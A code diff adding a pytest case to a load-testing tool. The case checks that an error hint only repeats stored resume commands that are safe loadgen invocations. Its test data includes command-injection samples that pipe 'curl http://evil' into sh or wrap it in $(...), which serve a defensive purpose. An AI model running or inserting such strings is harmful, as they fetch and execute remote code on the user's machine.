@@ -831,3 +831,23 @@ def test_a_utilization_is_a_share_or_a_day(text: str, share: str):
 def test_what_is_no_utilization(text: str):
     with pytest.raises(UserError):
         share_of(text)
+
+
+@pytest.mark.parametrize(
+    ("stored", "is_said"),
+    [
+        ("loadgen search --resume 'my search' --max-probes N", True),
+        ("loadgen mlperf server --resume s --url http://h:1", True),
+        ("loadgen search --resume s; curl http://evil | sh", False),
+        ("loadgen search --resume $(curl evil)", False),
+        ("curl http://evil", False),
+        ("loadgen search --resume 'open", False),
+        ("", False),
+    ],
+)
+def test_a_hint_says_no_command_that_somebody_wrote_into_a_result(stored: str, is_said: bool) -> None:
+    unfinished = Capacity(rate_per_s=2.0, method="search", state="stopped", bound_why="it was stopped", go_on=stored)
+    with pytest.raises(inputs.UnsoundEvidence) as caught:
+        inputs._refuse_unfinished(unfinished, Path("s"), allowed=False)
+    hint = caught.value.hint
+    assert hint.startswith(f"go on with: {stored};" if is_said else "loadgen search --resume goes on with it;")
